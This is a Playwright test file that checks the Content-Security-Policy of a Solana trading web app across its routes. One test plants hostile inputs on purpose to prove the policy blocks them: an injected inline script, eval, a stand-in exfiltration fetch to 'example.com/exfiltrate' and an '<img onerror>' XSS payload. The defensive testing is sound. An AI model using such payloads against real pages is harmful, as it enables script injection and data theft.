import type { Page } from '@playwright/test';
import { homeRoute, routeTable } from '../../src/app/routeTable';
import { contentSecurityPolicy } from '../../streams/core/config/contentSecurityPolicy';
import { RPC_PROVIDERS } from '../../streams/core/config/rpcProviders';
import { expect, test, watchCsp } from './support/fixtures';

/** Sample values for route parameters, so every pattern of the route table becomes a page. */
const samples: Record<string, string> = {
  symbol: 'xstocks',
  slug: 'pump.fun',
  id: 'So11111111111111111111111111111111111111112',
  pair: 'So11111111111111111111111111111111111111112-EPjFWdd5AufqSSqeM2qN1xzybapC8G4wEGGkZwyTDt1v',
  address: '5Q544fKrFoe6tsEbD7S8EmxGTJYAKtTVhAW5Q5pge4j1',
  method: 'cctp',
  signature: '5h6xBEauJ3PK6SWCZ1PGjBvj8vDdWG3KpwATGy1ARAXFSDwt8GFXM7W5Ncn16wmqokgpiKRLuS83KUxyZyv2sUYv',
};
const concrete = (path: string) => path.replace(/:(\w+)/g, (_, name: string) => samples[name] ?? name);

const parse = (policy: string) =>
  new Map(
    policy
      .split(';')
      .map((directive) => directive.trim().split(/\s+/))
      .filter((parts) => parts[0] !== '')
      .map(([name = '', ...sources]) => [name, sources] as const),
  );

/** The preview serves the default (sim) build. */
const expectedHeader = contentSecurityPolicy('sim', 'header');
const expectedMeta = contentSecurityPolicy('sim', 'meta');

/** Opens a page and lets it do its first round of work: data, sockets, icons. */
const visit = async (page: Page, path: string) => {
  const response = await page.goto(path);
  await expect(page.locator('h1').first()).toBeVisible();
  await page.waitForLoadState('networkidle');
  return response;
};

test.describe('Content-Security-Policy', () => {
  test('the header carries every required directive, strict where it matters', async ({ page }) => {
    const response = await visit(page, '/');
    const header = response?.headers()['content-security-policy'] ?? '';
    const directives = parse(header);
    expect(directives.get('default-src')).toEqual(["'self'"]);
    expect(directives.get('script-src')).toEqual(["'self'"]);
    expect(directives.get('style-src')).toEqual(["'self'"]);
    expect(directives.get('object-src')).toEqual(["'none'"]);
    expect(directives.get('base-uri')).toEqual(["'none'"]);
    expect(directives.get('frame-ancestors')).toEqual(["'none'"]);
    expect(directives.get('form-action')).toEqual(["'self'"]);
    expect(directives.get('require-trusted-types-for')).toEqual(["'script'"]);
    expect(directives.get('trusted-types')).toEqual(["'none'"]);
    const connect = directives.get('connect-src') ?? [];
    // The simulator profile: its API, stream, RPC and pubsub, on this machine only.
    expect(connect).toEqual(expect.arrayContaining(["'self'", 'http://127.0.0.1:*', 'ws://127.0.0.1:*', 'http://localhost:*', 'ws://localhost:*']));
    // Mainnet is one `?profile=mainnet` away in this build: its services, and no wildcard host.
    expect(connect).toEqual(
      expect.arrayContaining([
        'https://datapi.jup.ag',
        'wss://trench-stream.jup.ag',
        'https://api.jup.ag',
        'https://api.mainnet-beta.solana.com',
        'wss://api.mainnet-beta.solana.com',
      ]),
    );
    // The only wildcards: the RPC providers' domains a custom RPC may be on (rpcProviders.ts), on https and wss.
    const providerWildcards = RPC_PROVIDERS.filter((provider) => provider.host.startsWith('*.')).flatMap((provider) => [
      `https://${provider.host}`,
      `wss://${provider.host}`,
    ]);
    expect(connect).toEqual(expect.arrayContaining(providerWildcards));
    for (const source of [...connect.filter((source) => !providerWildcards.includes(source)), ...(directives.get('img-src') ?? [])]) {
      expect(source, 'no scheme-only or wildcard host').not.toMatch(/^(\*|https?:|wss?:|https?:\/\/\*.*|wss?:\/\/\*.*)$/);
    }
    expect(header).toBe(expectedHeader);
  });

  test('the built page carries the same policy as a meta tag, before any script, without frame-ancestors', async ({ page }) => {
    await visit(page, '/swap');
    const meta = page.locator('head meta[http-equiv="Content-Security-Policy"]');
    await expect(meta).toHaveAttribute('content', expectedMeta);
    expect(await page.evaluate(() => document.head.querySelector('meta[http-equiv="Content-Security-Policy"] ~ script[src]') !== null)).toBe(true);
    expect(expectedMeta).not.toContain('frame-ancestors');
  });

  test('the policy blocks an injected inline script, eval, an unknown host and framing', async ({ browser }) => {
    // A context of its own: these violations are the point here, not a failure.
    const context = await browser.newContext();
    const complaints = await watchCsp(context);
    const page = await context.newPage();
    await visit(page, '/');
    const outcome = await page.evaluate(async () => {
      // Trusted Types refuse the script's text outright; were it set, script-src would refuse to run it.
      const script = document.createElement('script');
      try {
        script.textContent = 'window.__injected = true';
      } catch {
        script.append(document.createTextNode('window.__injected = true'));
      }
      document.body.append(script);
      // Later, as the page's own task: code evaluated by the test harness itself may use eval.
      const evaluated = await new Promise<string>((resolve) =>
        setTimeout(() => {
          try {
            // The point: the page's policy must refuse eval.
            eval('1 + 1');
            resolve('ran');
          } catch {
            resolve('refused');
          }
        }, 0),
      );
      const fetched = await fetch('https://example.com/exfiltrate').then(
        () => 'sent',
        () => 'refused',
      );
      // Trusted Types: a string never reaches an HTML sink.
      let html = 'assigned';
      try {
        document.createElement('div').innerHTML = '<img src=x onerror="window.__injected=true">';
      } catch {
        html = 'refused';
      }
      return { injected: (window as unknown as { __injected?: boolean }).__injected === true, evaluated, fetched, html };
    });
    expect(outcome).toEqual({ injected: false, evaluated: 'refused', fetched: 'refused', html: 'refused' });
    expect(complaints.some((text) => /require-trusted-types-for/.test(text))).toBe(true);

    expect(complaints.some((text) => /script-src-elem blocked inline|require-trusted-types-for/.test(text))).toBe(true);
    expect(complaints.some((text) => /script-src blocked eval|require-trusted-types-for/.test(text))).toBe(true);
    expect(complaints.some((text) => /connect-src blocked https:\/\/example\.com/.test(text))).toBe(true);

    // frame-ancestors 'none': the app refuses to load in a frame (Chromium shows its error page
    // there), while a page without the policy, the simulator's health check, loads in the same spot.
    const framing = await context.newPage();
    await framing.setContent(`<iframe src="${new URL('/', page.url()).href}"></iframe><iframe src="http://127.0.0.1:8787/health"></iframe>`);
    await expect
      .poll(() =>
        framing
          .frames()
          .map((frame) => frame.url())
          .sort(),
      )
      .toEqual(['about:blank', 'chrome-error://chromewebdata/', 'http://127.0.0.1:8787/health']);
    await context.close();
  });

  test('?profile=mainnet in this build reaches the public hosts without a violation (the network may refuse them)', async ({ page }) => {
    // No internet here: the calls fail as network errors, which the policy must not add to.
    await page.goto('/pro?profile=mainnet');
    await expect(page.locator('h1').first()).toBeVisible();
    await expect(page.getByRole('contentinfo')).toContainText('Mainnet · https://datapi.jup.ag');
    await page.waitForLoadState('networkidle');
    // The profile is remembered: the swap page talks to the public hosts as well.
    await visit(page, '/swap');
    await expect(page.getByRole('contentinfo')).toContainText('Mainnet');
    // The automatic fixture fails the test on any CSP message in the console.
  });

  for (const route of [homeRoute, ...routeTable]) {
    const path = concrete(route.path);
    test(`${path} loads with the policy and without a violation`, async ({ page }) => {
      const response = await visit(page, path);
      expect(response?.headers()['content-security-policy']).toBe(expectedHeader);
      // The automatic fixture fails the test on any CSP message in the console.
    });
  }
});
